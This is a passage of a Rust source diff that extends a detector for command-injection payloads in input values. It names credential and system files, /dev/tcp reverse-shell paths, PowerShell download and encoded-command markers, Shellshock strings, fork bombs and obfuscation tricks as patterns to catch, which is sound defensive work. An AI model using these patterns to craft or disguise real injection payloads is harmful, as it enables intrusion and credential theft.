@@ -106,6 +106,7 @@ const NEEDED: Marks = Marks::SPACE
     .and(Marks::GREATER)
     .and(Marks::PARENTHESIS)
     .and(Marks::BRACE)
+    .and(Marks::PERCENT)
     .and(Marks::BANG);
 
 /// Lines of a value that is nothing but an attack.
@@ -157,11 +158,26 @@ enum Lead {
 
 impl Value<'_> {
     fn pieces(&self, signs: &mut Signs) {
-        let plus_is_blank = !self.marks.has(Marks::SPACE);
-        let breaks = self.marks.has_any(SEPARATORS) || self.marks.has(Marks::PERCENT);
+        let plus_is_blank = !self.marks.has(Marks::SPACE)
+            && (matches!(self.text, [b'+' | b'|' | b'&' | b';' | b'$', ..])
+                || self.marks.has(Marks::PLUS.and(Marks::SLASH))
+                    && memchr::memmem::find(self.text, b"+/").is_some());
+        let trimmed = self.text.trim_ascii_end();
+        let trimmed = trimmed.strip_suffix(b"\\n").unwrap_or(trimmed);
+        let is_separator = |it: &u8| matches!(it, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'%');
+        let breaks = self.marks.has_any(SEPARATORS) && trimmed.iter().any(is_separator);
         let mut lead = Lead::Nothing;
         let mut found = Found::default();
-        for (n, piece) in commands(self.text, plus_is_blank).take(PIECES_MAX).enumerate() {
+        // A line end that was escaped once too often.
+        let (text, is_line) = match trimmed.strip_prefix(b"\\n") {
+            Some(rest) => (rest, true),
+            None => (trimmed, false),
+        };
+        for (n, mut piece) in commands(text, plus_is_blank).take(PIECES_MAX).enumerate() {
+            let n = n + usize::from(is_line);
+            if is_line && n == 1 {
+                piece.before = Before::Semicolon;
+            }
             let fit = fit(&piece);
             let has_target = fit > Fit::No && has_target(piece.text);
             if n == 0 {
@@ -169,27 +185,54 @@ impl Value<'_> {
                 lead = self.lead(piece.text, fit);
             } else if fit > Fit::No && !is_quoted_word(&piece, fit) {
                 found.note(&piece, fit, has_target);
-            } else if !piece.text.trim_ascii().is_empty() {
-                found.others += usize::from(found.count == 0 || words(piece.text).count() > 2);
+            } else if piece.text.iter().any(u8::is_ascii_alphanumeric) {
+                found.others += usize::from(
+                    found.count == 0 || words(piece.text).filter(|it| is_prose(it)).count() > 2,
+                );
                 found.rest += usize::from(found.count > 0);
             }
             signs.note(SPLICED, piece.is_spliced && self.is_short && is_splice(&piece, fit));
             signs.note(BLANK, piece.has_ifs && self.is_short);
-            signs.note(BRACED, piece.is_braced && fit > Fit::No && self.is_short && is_brace_list(piece.text));
-            signs.note(VARIABLE, n > 0 && piece.is_variable && self.is_short && is_assigned(self.text, piece.text));
+            signs.note(
+                BRACED,
+                piece.is_braced && fit > Fit::No && self.is_short && is_brace_list(piece.text),
+            );
+            signs.note(
+                VARIABLE,
+                n > 0 && piece.is_variable && self.is_short && is_assigned(self.text, piece.text),
+            );
             signs.note(PATH, piece.has_folder);
         }
         self.judge(signs, lead, &found);
     }
 
-    fn first(&self, signs: &mut Signs, piece: &Command<'_>, fit: Fit, has_target: bool, breaks: bool) {
+    fn first(
+        &self,
+        signs: &mut Signs,
+        piece: &Command<'_>,
+        fit: Fit,
+        has_target: bool,
+        breaks: bool,
+    ) {
         if self.is_name || !self.is_short {
             return;
         }
         signs.note(WHOLE, fit == Fit::Called);
-        signs.note(WHOLE, fit >= Fit::Program && !breaks && piece.arguments.trim_ascii().is_empty() && is_probe(piece.text.trim_ascii(), ALONE));
-        signs.note(WHOLE_TARGET, fit == Fit::Called && has_target && !breaks && words(self.text).count() <= 4);
-        signs.note(NAME, fit == Fit::Program && !breaks);
+        signs.note(
+            WHOLE,
+            fit >= Fit::Program
+                && !breaks
+                && piece.arguments.trim_ascii().is_empty()
+                && is_probe(piece.text.trim_ascii(), ALONE),
+        );
+        signs.note(
+            WHOLE_TARGET,
+            fit == Fit::Called && has_target && !breaks && words(self.text).count() <= 4,
+        );
+        let is_lower = !piece.text.first().is_some_and(u8::is_ascii_uppercase);
+        let is_program =
+            piece.name == Name::Program && is_lower && words(piece.arguments).count() <= 4;
+        signs.note(NAME, is_program && !breaks && lines(self.text) == 1);
     }
 
     fn lead(&self, text: &[u8], fit: Fit) -> Lead {
@@ -198,9 +241,19 @@ impl Value<'_> {
         match text {
             [] | [b'$' | b'"' | b'\'' | b'+' | b')' | b'@'] => Lead::Nothing,
             _ if fit >= Fit::Called => Lead::Command,
-            _ if text.len() > LEAD_BYTES_MAX || text.iter().any(u8::is_ascii_whitespace) || text.starts_with(b"<") => Lead::Text,
+            _ if text.len() > LEAD_BYTES_MAX
+                || text.iter().any(u8::is_ascii_whitespace)
+                || text.starts_with(b"<") =>
+            {
+                Lead::Text
+            }
             [.., b'"' | b'\'' | b')'] if closes(text) => Lead::Closes,
-            _ if text.iter().any(|it| it.is_ascii_digit() || *it == b'.') && !text.contains(&b'=') => Lead::Datum,
+            _ if !text.iter().any(u8::is_ascii_alphabetic) => Lead::Datum,
+            _ if text.iter().any(|it| it.is_ascii_digit() || *it == b'.')
+                && !text.contains(&b'=') =>
+            {
+                Lead::Datum
+            }
             _ => Lead::Word,
         }
     }
@@ -214,30 +267,57 @@ impl Value<'_> {
         let is_probe = found.is_probe && found.rest == 0;
         let is_certain = is_call || is_probe || found.has_target;
         signs.note(MIDST, found.best >= Fit::Called);
-        signs.note(LIST, true);
+        signs.note(LIST, found.first != Some(Before::Line));
         signs.note(TARGET, found.has_target && self.is_short);
-        let is_substitution = found.first.is_some_and(|it| matches!(it, Before::Substitution | Before::Backtick));
+        let is_substitution =
+            found.first.is_some_and(|it| matches!(it, Before::Substitution | Before::Backtick));
         if !runs_to_end {
             return;
         }
         if is_substitution {
-            let is_code = found.first == Some(Before::Backtick) && lead == Lead::Nothing && self.text.starts_with(b"`") && self.text.ends_with(b"`");
+            let is_code = found.first == Some(Before::Backtick)
+                && lead == Lead::Nothing
+                && self.text.starts_with(b"`")
+                && self.text.ends_with(b"`");
             let stands_alone = matches!(lead, Lead::Nothing | Lead::Closes | Lead::Datum);
-            signs.note(SUBSTITUTION, stands_alone && (is_call || found.best == Fit::Program && is_probe) && (!is_code || found.has_target));
+            signs.note(
+                SUBSTITUTION,
+                stands_alone
+                    && (is_call || found.best == Fit::Program && is_probe)
+                    && (!is_code || found.has_target),
+            );
             signs.note(SUBSTITUTES, lead != Lead::Text || is_call);
             return;
         }
         let is_line = found.first == Some(Before::Line);
         match lead {
-            Lead::Nothing if !is_line || self.text.starts_with(b"%") => signs.note(LEADING, is_certain),
+            Lead::Nothing if !is_line || self.text.starts_with(b"%") => {
+                signs.note(LEADING, is_certain)
+            }
             Lead::Closes => signs.note(APPENDED, is_certain),
-            Lead::Datum if !is_line => signs.note(APPENDED, is_call || found.has_target || found.best == Fit::Program && is_probe),
-            Lead::Word if !is_line => signs.note(APPENDED, found.has_target || found.best == Fit::Program && is_probe),
+            Lead::Datum if !is_line => signs.note(
+                APPENDED,
+                is_call || found.has_target || found.best == Fit::Program && is_probe,
+            ),
+            Lead::Word if !is_line => signs.note(
+                APPENDED,
+                found.has_target || found.has_folder || found.best == Fit::Program && is_probe,
+            ),
             Lead::Nothing | Lead::Datum | Lead::Word | Lead::Command | Lead::Text => {}
         }
-        let is_break = matches!(lead, Lead::Nothing | Lead::Closes | Lead::Datum | Lead::Word);
-        signs.note(BREAKS, is_break && (is_certain || found.best >= Fit::Program || lead == Lead::Nothing));
-        signs.note(BREAKS, lead == Lead::Text && is_call && found.rest == 0 && !is_line);
+        let is_break = match lead {
+            Lead::Nothing | Lead::Closes => true,
+            // `a=1&id`
+            Lead::Datum | Lead::Word => is_call || found.first != Some(Before::Ampersand),
+            Lead::Command | Lead::Text => false,
+        };
+        signs.note(
+            BREAKS,
+            is_break && (is_certain || found.best >= Fit::Program || lead == Lead::Nothing),
+        );
+        let is_grave = found.has_target || found.has_folder;
+        signs
+            .note(BREAKS, lead == Lead::Text && is_call && is_grave && found.rest == 0 && !is_line);
     }
 
     fn marks(&self, signs: &mut Signs) {
@@ -247,22 +327,40 @@ impl Value<'_> {
             signs.note(SHELLSHOCK, is_function(text));
             signs.note(FORK, is_fork_bomb(text));
         }
-        if has(Marks::DOLLAR.and(Marks::BRACE).and(Marks::COLON)) || has(Marks::PERCENT.and(Marks::COLON).and(Marks::BANG)) {
+        if has(Marks::DOLLAR.and(Marks::BRACE).and(Marks::COLON))
+            || has(Marks::PERCENT.and(Marks::COLON).and(Marks::BANG))
+        {
             signs.note(SLICED, self.is_short && is_sliced(text));
         }
         if has(Marks::SLASH) {
-            signs.note(GLOB, has(Marks::PLUS) && self.is_short && is_glob(text));
+            signs.note(
+                GLOB,
+                marks.has_any(Marks::PLUS.and(Marks::STAR).and(Marks::BRACKET))
+                    && self.is_short
+                    && is_glob(text),
+            );
             let opens_socket = has_socket(text);
             signs.note(SOCKET_TOLD, opens_socket);
             signs.note(SOCKET, opens_socket && self.is_short && has_redirect(text));
         }
-        if has(Marks::LESS.and(Marks::BANG).and(Marks::HASH)) {
-            signs.note(INCLUDE, self.is_short && caseless::contains(text, b"<!--#exec"));
+        if has(Marks::BANG.and(Marks::HASH)) {
+            signs.note(
+                INCLUDE,
+                self.is_short && caseless::contains_any(text, &["<!--#exec", "&lt;!--#exec"]),
+            );
         }
         if has(Marks::PARENTHESIS) {
-            let call = call(text);
+            let call = call(text).or_else(|| runs(text).then_some(false));
             signs.note(CALL, self.is_short && call == Some(true));
             signs.note(CALLED, self.is_short && call.is_some());
+        }
+        if has(Marks::DOLLAR.and(Marks::BRACKET).and(Marks::UNDERSCORE)) && self.is_short {
+            signs.note(
+                CALLED,
+                ["$_GET[", "$_POST[", "$_REQUEST[", "$_COOKIE[", "$_SERVER["]
+                    .iter()
+                    .any(|it| memchr::memmem::find(text, it.as_bytes()).is_some()),
+            );
         }
         if has(Marks::SPACE.and(Marks::DASH)) {
             self.powershell(signs);
@@ -271,7 +369,10 @@ impl Value<'_> {
             signs.note(CONTROL, is_control(text));
         }
         if has(Marks::DOLLAR.and(Marks::PARENTHESIS)) && self.is_short {
-            signs.note(EMPTY, memchr::memmem::find(text, b"$()").is_some() && !text.ends_with(b"$()"));
+            signs.note(
+                EMPTY,
+                memchr::memmem::find(text, b"$()").is_some() && !text.ends_with(b"$()"),
+            );
         }
         if marks.has_any(Marks::LESS.and(Marks::GREATER)) && self.is_short {
             signs.note(HERE, is_here(text));
@@ -280,7 +381,10 @@ impl Value<'_> {
             signs.note(PROTOCOL, is_protocol(text));
         }
         if has(Marks::BANG) {
-            let is_tilde = matches!(text, [b'~', b'+' | b'-'] | [b'~', b'+' | b'-', b'0'..=b'9'] | [b'~', b'0'..=b'9']);
+            let is_tilde = matches!(
+                text,
+                [b'~', b'+' | b'-'] | [b'~', b'+' | b'-', b'0'..=b'9'] | [b'~', b'0'..=b'9']
+            );
             signs.note(TILDE, is_tilde);
         }
     }
@@ -288,23 +392,45 @@ impl Value<'_> {
     fn powershell(&self, signs: &mut Signs) {
         let text = self.text;
         let Some(&first) = text.trim_ascii_start().first() else { return };
-        let shell = caseless::find(text, b"powershell").map(|at| at + 10).or_else(|| caseless::find(text, b"pwsh").map(|at| at + 4));
+        let shell = caseless::find(text, b"powershell")
+            .map(|at| at + 10)
+            .or_else(|| caseless::find(text, b"pwsh").map(|at| at + 4));
         if let Some(arguments) = shell.and_then(|at| text.get(at..)) {
-            let hides = words(arguments).skip_while(|it| !is_encoded_option(it)).nth(1).is_some_and(|it| it.len() >= 16);
-            let loads = caseless::contains_any(arguments, &["downloadstring", "downloadfile", "frombase64string", "net.webclient"]);
+            let hides = words(arguments)
+                .skip_while(|it| !is_encoded_option(it))
+                .nth(1)
+                .is_some_and(|it| it.len() >= 16);
+            let loads = caseless::contains_any(
+                arguments,
+                &["downloadstring", "downloadfile", "frombase64string", "net.webclient"],
+            );
             signs.note(POWERSHELL, self.is_short && (hides || loads));
-            let is_option = |it: &[u8]| caseless::starts_any(it, &["-e", "-nop", "-noni", "-w", "-ex", "-c", "/c", "-inputformat", "iex"]);
-            signs.note(CMDLET, self.is_short && (hides || loads || words(arguments).take(3).any(is_option)));
+            let is_option = |it: &[u8]| {
+                caseless::starts_any(
+                    it,
+                    &["-e", "-nop", "-noni", "-w", "-ex", "-c", "/c", "-inputformat", "iex"],
+                )
+            };
+            signs.note(
+                CMDLET,
+                self.is_short && (hides || loads || words(arguments).take(3).any(is_option)),
+            );
         }
-        if self.is_short && (first.is_ascii_alphabetic() || matches!(first, b';' | b'|' | b'&' | b'$')) {
+        if self.is_short
+            && (first.is_ascii_alphabetic() || matches!(first, b';' | b'|' | b'&' | b'$'))
+        {
             signs.note(CMDLET, commands(text, false).take(4).any(|it| is_cmdlet(it.text)));
         }
     }
 }
 
 /// What ends the command before it.
-const SEPARATORS: Marks =
-    Marks::SEMICOLON.and(Marks::PIPE).and(Marks::AMPERSAND).and(Marks::LINE).and(Marks::BACKTICK);
+const SEPARATORS: Marks = Marks::SEMICOLON
+    .and(Marks::PIPE)
+    .and(Marks::AMPERSAND)
+    .and(Marks::LINE)
+    .and(Marks::BACKTICK)
+    .and(Marks::PERCENT);
 
 /// What was found behind the first break.
 #[derive(Clone, Copy, Debug)]
@@ -315,6 +441,7 @@ struct Found {
     has_target: bool,
     is_probe: bool,
     is_filter: bool,
+    has_folder: bool,
     /// Pieces of text.
     others: usize,
     /// Pieces behind the first command that are none.
@@ -323,7 +450,17 @@ struct Found {
 
 impl Default for Found {
     fn default() -> Self {
-        Self { first: None, count: 0, best: Fit::No, has_target: false, is_probe: false, is_filter: true, others: 0, rest: 0 }
+        Self {
+            first: None,
+            count: 0,
+            best: Fit::No,
+            has_target: false,
+            is_probe: false,
+            is_filter: true,
+            has_folder: false,
+            others: 0,
+            rest: 0,
+        }
     }
 }
 
@@ -336,6 +473,7 @@ impl Found {
         self.count += 1;
         self.best = self.best.max(fit);
         self.has_target |= has_target;
+        self.has_folder |= piece.has_folder;
         self.is_probe |= is_probe(bare(name), PROBES) || piece.has_folder;
         self.is_filter &= is_filter(bare(name)) && !has_target;
     }
@@ -343,13 +481,20 @@ impl Found {
 
 /// A name without quotes, folders and arguments around it.
 fn bare(text: &[u8]) -> &[u8] {
-    let is_mark = |it: &u8| matches!(it, b'"' | b'\'' | b')' | b'(' | b'{' | b'}' | b' ' | b'+' | b'\\');
+    let is_mark =
+        |it: &u8| matches!(it, b'"' | b'\'' | b')' | b'(' | b'{' | b'}' | b' ' | b'+' | b'\\');
     let from = text.iter().take_while(|it| is_mark(it)).count();
     let text = text.get(from..).unwrap_or_default();
     let count = text.iter().take_while(|it| it.is_ascii_alphanumeric() || **it == b'.').count();
     let name = text.get(..count).unwrap_or_default();
     let tail = text.get(count..).unwrap_or_default();
-    if tail.iter().all(|it| is_mark(it) || matches!(it, b'n' | b'r' | b'#' | 0)) || tail.starts_with(b" ") { name } else { &[] }
+    if tail.iter().all(|it| is_mark(it) || matches!(it, b'n' | b'r' | b'#' | 0))
+        || tail.starts_with(b" ")
+    {
+        name
+    } else {
+        &[]
+    }
 }
 
 /// `'word'`: an item of a list, or a string of code.
@@ -378,10 +523,30 @@ fn fit(piece: &Command<'_>) -> Fit {
         return Fit::No;
     }
     let is_last = words(piece.arguments).nth(1).is_none();
-    let is_called = piece.is_fitting || piece.is_braced && plain.len() > 1 || is_technical(plain, is_last) || is_redirect(piece.arguments);
+    let is_word = |words: &[&str]| {
+        words.iter().any(|it| bare(piece.text).eq_ignore_ascii_case(it.as_bytes()))
+    };
+    let says = is_word(&["echo", "printf"])
+        && (matches!(first, [b'"' | b'\'', ..])
+            || matches!(piece.before, Before::Substitution | Before::Backtick));
+    let reads = is_last && is_file(plain) && is_word(READERS);
+    let assigns = is_word(&["alias"]) && first.contains(&b'=');
+    let is_called = says
+        || assigns
+        || reads
+        || writes(piece.arguments)
+        || piece.is_fitting
+        || piece.is_braced && plain.len() > 1
+        || is_technical(plain, is_last)
+        || is_redirect(piece.arguments);
     match piece.name {
         _ if is_called || piece.has_folder => Fit::Called,
-        Name::Program if words(piece.arguments).count() <= 3 && words(piece.arguments).skip(1).any(|it| is_technical(unquoted(it), false)) => Fit::Called,
+        Name::Program
+            if words(piece.arguments).count() <= 3
+                && words(piece.arguments).skip(1).any(|it| is_technical(unquoted(it), false)) =>
+        {
+            Fit::Called
+        }
         Name::Program if words(piece.arguments).count() <= 2 => Fit::Program,
         Name::Program | Name::Word | Name::Other => Fit::No,
     }
@@ -397,8 +562,12 @@ fn unquoted(word: &[u8]) -> &[u8] {
 
 /// `<file` right behind the name.
 fn is_redirect(arguments: &[u8]) -> bool {
-    matches!(arguments.trim_ascii_start(), [b'<' | b'>', b'<' | b'>' | b' ' | b'/' | b'&' | b'.' | b'"', ..] | [b'<' | b'>', b'a'..=b'z', ..])
-        && !arguments.ends_with(b">")
+    let arguments = arguments.trim_ascii_start();
+    let is_tag = memchr::memchr(b'>', arguments.get(1..).unwrap_or_default()).is_some();
+    matches!(
+        arguments,
+        [b'<' | b'>', b'<' | b'>' | b' ' | b'/' | b'&' | b'.' | b'"' | b'a'..=b'z', ..]
+    ) && !(arguments.starts_with(b"<") && is_tag)
 }
 
 /// Whether an argument is one that people do not write behind a word: an option, a path, an
@@ -407,25 +576,52 @@ fn is_technical(word: &[u8], is_last: bool) -> bool {
     match word {
         [b'-', b'-', b'a'..=b'z', ..] | [b'-', b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9', ..] => true,
         [b'/', rest @ ..] => !rest.is_empty() && rest.first() != Some(&b' ') || is_last,
-        [b'.', b'/' | b'.', ..] | [b'~', b'/', ..] | [b'\\', b'\\', ..] => word.len() > 2 && !word.starts_with(b"..."),
-        [b'$', b'a'..=b'z' | b'A'..=b'Z' | b'{' | b'(' | b'_', ..] | [b'%', b'a'..=b'z' | b'A'..=b'Z', ..] => true,
+        [b'.', b'/' | b'.', ..] | [b'~', b'/', ..] | [b'\\', b'\\', ..] => {
+            word.len() > 2 && !word.starts_with(b"...")
+        }
+        [b'$', b'a'..=b'z' | b'A'..=b'Z' | b'{' | b'(' | b'_', ..]
+        | [b'%', b'a'..=b'z' | b'A'..=b'Z', ..] => true,
         [b'a'..=b'z' | b'A'..=b'Z', b':', b'/' | b'\\', ..] => true,
         [b'a'..=b'z' | b'A'..=b'Z', b':'] => is_last,
-        [b'<' | b'>', b'/' | b'&' | b'a'..=b'z', ..] => true,
+        [b'<' | b'>', b'/' | b'&' | b'a'..=b'z', rest @ ..] => !rest.contains(&b'>'),
         [b'0'..=b'9', rest @ ..] => {
             let is_number = rest.iter().all(u8::is_ascii_digit);
             is_number && is_last || is_address(word)
         }
-        _ => memchr::memmem::find(word, b"://").is_some() || is_last && (is_file(word) || is_domain(word)) || has_glob(word) && is_last && word.len() > 1,
+        _ => {
+            memchr::memmem::find(word, b"://").is_some()
+                || is_last && is_domain(word)
+                || has_glob(word) && is_last && word.len() > 1
+        }
     }
 }
 
 fn has_glob(word: &[u8]) -> bool {
-    word.contains(&b'*') && word.iter().all(|it| it.is_ascii_alphanumeric() || matches!(it, b'*' | b'.' | b'/' | b'_'))
+    word.contains(&b'*')
+        && word
+            .iter()
+            .all(|it| it.is_ascii_alphanumeric() || matches!(it, b'*' | b'.' | b'/' | b'_'))
 }
 
 fn is_address(word: &[u8]) -> bool {
-    word.len() >= 7 && word.iter().filter(|it| **it == b'.').count() == 3 && word.iter().all(|it| it.is_ascii_digit() || matches!(it, b'.' | b':' | b'/'))
+    word.len() >= 7
+        && word.iter().filter(|it| **it == b'.').count() == 3
+        && word.iter().all(|it| it.is_ascii_digit() || matches!(it, b'.' | b':' | b'/'))
+}
+
+/// Commands that are run on a file of the folder they stand in.
+const READERS: &[&str] = &[
+    "bash", "cat", "del", "head", "nl", "node", "perl", "php", "python", "rm", "ruby", "sh", "tac",
+    "tail", "type", "vi",
+];
+
+/// `> cmd.php`, `>/tmp/x`: the output goes to a file.
+fn writes(arguments: &[u8]) -> bool {
+    let Some(at) = memchr::memchr(b'>', arguments) else { return false };
+    let file = arguments.get(at..).unwrap_or_default();
+    let file = file.strip_prefix(b">").unwrap_or(file);
+    let file = first_argument(file.strip_prefix(b">").unwrap_or(file));
+    file.starts_with(b"/") && file.len() > 2 || is_file(file)
 }
 
 /// `boot.ini`, `cmd.php`, `win.ini`.
@@ -433,12 +629,21 @@ fn is_file(word: &[u8]) -> bool {
     let mut parts = word.rsplit(|it| *it == b'.');
     let extension = parts.next().unwrap_or_default();
     let rest = parts.next();
-    rest.is_some_and(|it| !it.is_empty()) && (2..=4).contains(&extension.len()) && extension.iter().all(u8::is_ascii_lowercase)
+    rest.is_some_and(|it| !it.is_empty())
+        && (2..=4).contains(&extension.len())
+        && extension.iter().all(u8::is_ascii_lowercase)
+        && word.iter().all(|it| it.is_ascii_alphanumeric() || matches!(it, b'.' | b'_' | b'-'))
 }
 
 /// `localhost`.
 fn is_domain(word: &[u8]) -> bool {
     word.eq_ignore_ascii_case(b"localhost")
+}
+
+/// A word as sentences have them.
+fn is_prose(word: &[u8]) -> bool {
+    let word = unquoted(word);
+    word.len() > 1 && word.iter().all(u8::is_ascii_alphabetic)
 }
 
 /// What commands of an attack are run on.
@@ -447,29 +652,79 @@ fn has_target(text: &[u8]) -> bool {
 }
 
 const TARGETS: &[&str] = &[
-    "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "win.ini", "boot.ini", "system32\\config", "repair\\sam",
-    "repair\\system", "proc/self", "/proc/version", ".ssh/", "id_rsa", "/etc/issue", "/dev/tcp/", "/dev/udp/", ".bash_history",
+    "etc/passwd",
+    "etc/shadow",
+    "etc/hosts",
+    "etc/group",
+    "win.ini",
+    "boot.ini",
+    "system32\\config",
+    "repair\\sam",
+    "repair\\system",
+    "proc/self",
+    "/proc/version",
+    ".ssh/",
+    "id_rsa",
+    "/etc/issue",
+    "/dev/tcp/",
+    "/dev/udp/",
+    ".bash_history",
 ];
 
 /// Whether the word by itself is what attacks run to see whether they can.
 fn is_probe(name: &[u8], names: &[&str]) -> bool {
-    name.len() <= 10 && names.iter().any(|it| name == it.as_bytes() || name.eq_ignore_ascii_case(it.as_bytes()) && !name.iter().skip(1).any(u8::is_ascii_lowercase))
+    name.len() <= 10
+        && names.iter().any(|it| {
+            name == it.as_bytes()
+                || name.eq_ignore_ascii_case(it.as_bytes())
+                    && !name.iter().skip(1).any(u8::is_ascii_lowercase)
+        })
 }
 
 /// Names that say something even alone.
-const ALONE: &[&str] = &["whoami", "ifconfig", "ipconfig", "netstat", "systeminfo", "nslookup", "printenv", "sysinfo", "uname"];
+const ALONE: &[&str] = &[
+    "whoami",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "systeminfo",
+    "nslookup",
+    "printenv",
+    "sysinfo",
+    "uname",
+];
 
 /// Names that say something behind a separator.
 const PROBES: &[&str] = &[
-    "whoami", "id", "ls", "pwd", "dir", "ifconfig", "ipconfig", "netstat", "systeminfo", "nslookup", "printenv",
-    "sysinfo", "uname", "ps", "env", "cat", "sleep", "ping", "nid", "phpinfo", "tasklist", "ll",
+    "whoami",
+    "id",
+    "ls",
+    "pwd",
+    "dir",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "systeminfo",
+    "nslookup",
+    "printenv",
+    "sysinfo",
+    "uname",
+    "ps",
+    "env",
+    "cat",
+    "sleep",
+    "ping",
+    "nid",
+    "phpinfo",
+    "tasklist",
+    "ll",
 ];
 
 /// Names that stand behind separators in what people paste.
 fn is_filter(name: &[u8]) -> bool {
     const FILTERS: &[&str] = &[
-        "awk", "column", "cut", "echo", "egrep", "exit", "false", "fmt", "grep", "head", "jq", "less", "make", "more", "sed", "sort",
-        "tail", "tee", "time", "tr", "true", "uniq", "wc", "xargs",
+        "awk", "column", "cut", "egrep", "exit", "false", "fmt", "grep", "head", "jq", "less",
+        "make", "more", "sed", "sort", "tail", "tee", "time", "tr", "true", "uniq", "wc", "xargs",
     ];
     caseless::is_among(name, FILTERS)
 }
@@ -492,12 +747,18 @@ fn is_splice(piece: &Command<'_>, fit: Fit) -> bool {
 /// `{cat,/etc/passwd}`, `{,ip,a}`: no blank, and more than names.
 fn is_brace_list(text: &[u8]) -> bool {
     let text = text.trim_ascii();
-    let Some([b'{', inside @ ..]) = text.iter().position(|it| *it == b'{').and_then(|at| text.get(at..)) else { return false };
+    let Some([b'{', inside @ ..]) =
+        text.iter().position(|it| *it == b'{').and_then(|at| text.get(at..))
+    else {
+        return false;
+    };
     let end = memchr::memchr(b'}', inside).unwrap_or(inside.len());
     let inside = inside.get(..end).unwrap_or_default();
     let items = || inside.split(|it| *it == b',');
     let is_odd = |it: &[u8]| matches!(it, [b'-' | b'/' | b'.', _, ..]);
-    !inside.iter().any(|it| matches!(it, b' ' | b':' | b'"')) && items().count() > 1 && (inside.starts_with(b",") || items().skip(1).any(is_odd))
+    !inside.iter().any(|it| matches!(it, b' ' | b':' | b'"'))
+        && items().count() > 1
+        && (inside.starts_with(b",") || items().skip(1).any(is_odd))
 }
 
 /// Whether the variable at which `piece` begins is assigned before it.
@@ -508,16 +769,24 @@ fn is_assigned(text: &[u8], piece: &[u8]) -> bool {
     let count = word.iter().take_while(|it| it.is_ascii_alphanumeric() || **it == b'_').count();
     let Some(name) = word.get(..count).filter(|it| !it.is_empty()) else { return false };
     let start = text.trim_ascii_start();
-    let is_assignment = |it: &[u8]| it.strip_prefix(name).is_some_and(|it| it.starts_with(b"=") && !it.starts_with(b"=="));
+    let is_assignment = |it: &[u8]| {
+        it.strip_prefix(name).is_some_and(|it| it.starts_with(b"=") && !it.starts_with(b"=="))
+    };
     is_assignment(start) || start.split(|it| matches!(it, b';' | b'&' | b' ')).any(is_assignment)
 }
 
 /// `() { :;};` as a value of an environment.
 fn is_function(text: &[u8]) -> bool {
     let text = text.trim_ascii_start();
-    let Some(rest) = text.strip_prefix(b"()").map(<[u8]>::trim_ascii_start).and_then(|it| it.strip_prefix(b"{")) else { return false };
+    let Some(rest) =
+        text.strip_prefix(b"()").map(<[u8]>::trim_ascii_start).and_then(|it| it.strip_prefix(b"{"))
+    else {
+        return false;
+    };
     match rest.trim_ascii_start() {
-        [b':' | b'_', rest @ ..] => matches!(rest.trim_ascii_start(), [b';' | b'}' | b')' | b'\'', ..]),
+        [b':' | b'_', rest @ ..] => {
+            matches!(rest.trim_ascii_start(), [b';' | b'}' | b')' | b'\'', ..])
+        }
         rest => rest.is_empty() || memchr::memmem::find(rest, b"};").is_some_and(|at| at <= 32),
     }
 }
@@ -525,9 +794,14 @@ fn is_function(text: &[u8]) -> bool {
 /// `f(){ f|f& };f`: a function that runs itself twice.
 fn is_fork_bomb(text: &[u8]) -> bool {
     let text = text.trim_ascii();
-    let Some(at) = memchr::memmem::find(text.get(..LEAD_BYTES_MAX).unwrap_or(text), b"()") else { return false };
+    let Some(at) = memchr::memmem::find(text.get(..LEAD_BYTES_MAX).unwrap_or(text), b"()") else {
+        return false;
+    };
     let (name, body) = text.split_at_checked(at).unwrap_or_default();
-    let from = name.iter().rposition(|it| matches!(it, b' ' | b';' | b'=' | b'|' | b'&')).map_or(0, |at| at + 1);
+    let from = name
+        .iter()
+        .rposition(|it| matches!(it, b' ' | b';' | b'=' | b'|' | b'&'))
+        .map_or(0, |at| at + 1);
     let name = name.get(from..).unwrap_or_default();
     let body = body.get(2..).unwrap_or_default();
     let Some(inside) = body.trim_ascii_start().strip_prefix(b"{") else { return false };
@@ -535,14 +809,20 @@ fn is_fork_bomb(text: &[u8]) -> bool {
     let calls = !name.is_empty() && name.len() <= 32 && inside.starts_with(name);
     let end = memchr::memchr(b'}', inside).unwrap_or(inside.len());
     let twice = inside.get(..end).unwrap_or_default();
-    calls && memchr::memmem::find_iter(twice, name).take(2).count() == 2 && twice.iter().any(|it| matches!(it, b'|' | b'&'))
+    calls
+        && memchr::memmem::find_iter(twice, name).take(2).count() == 2
+        && twice.iter().any(|it| matches!(it, b'|' | b'&'))
 }
 
 /// `${PATH:0:1}`, `%PATH:~0,1%`.
 fn is_sliced(text: &[u8]) -> bool {
     let is_slice = |it: &[u8]| {
-        let count = it.iter().take_while(|it| it.is_ascii_alphanumeric() || matches!(it, b'_' | b'@' | b'#' | b'!')).count();
-        matches!(it.get(count..), Some([b':', b'~' | b'0'..=b'9' | b' ' | b'$' | b'-', ..])) && count > 0
+        let count = it
+            .iter()
+            .take_while(|it| it.is_ascii_alphanumeric() || matches!(it, b'_' | b'@' | b'#' | b'!'))
+            .count();
+        matches!(it.get(count..), Some([b':', b'~' | b'0'..=b'9' | b' ' | b'$' | b'-', ..]))
+            && count > 0
     };
     memchr::memmem::find_iter(text, b"${").take(PIECES_MAX).any(|at| {
         let inside = text.get(at + 2..).unwrap_or_default();
@@ -553,24 +833,54 @@ fn is_sliced(text: &[u8]) -> bool {
     })
 }
 
-/// `/???/??t`, `/bin/c?t /etc/p?sswd`, `/usr/[a-z]in/bash`.
+/// `/???/??t`, `/bin/c?t`, `/et*/p*d`, `/usr/[a-z]in/bash`: a folder of Unix or what stands in it,
+/// with marks for some letters. People ask `/what/??`, and routes are written `/blog/[slug]`.
 fn is_glob(text: &[u8]) -> bool {
-    text.split(|it| matches!(it, b' ' | b';' | b'|' | b'&' | b',' | b'{' | b'}' | b'<' | b'`' | b'$' | b'=' | b'\'' | b'"')).take(PIECES_MAX).any(|word| {
-        let is_path = word.iter().all(|it| it.is_ascii_alphanumeric() || matches!(it, b'/' | b'?' | b'*' | b'[' | b']' | b'-' | b'_' | b'.'));
-        let marks = word.iter().filter(|it| **it == b'?').count();
-        let slashes = word.iter().filter(|it| **it == b'/').count();
-        // A query of a URL begins with one mark, and people ask with several at the end.
-        let inside = word.iter().position(|it| *it == b'?').is_some_and(|at| word.get(at..).unwrap_or_default().iter().any(|it| it.is_ascii_alphabetic() || *it == b'/'));
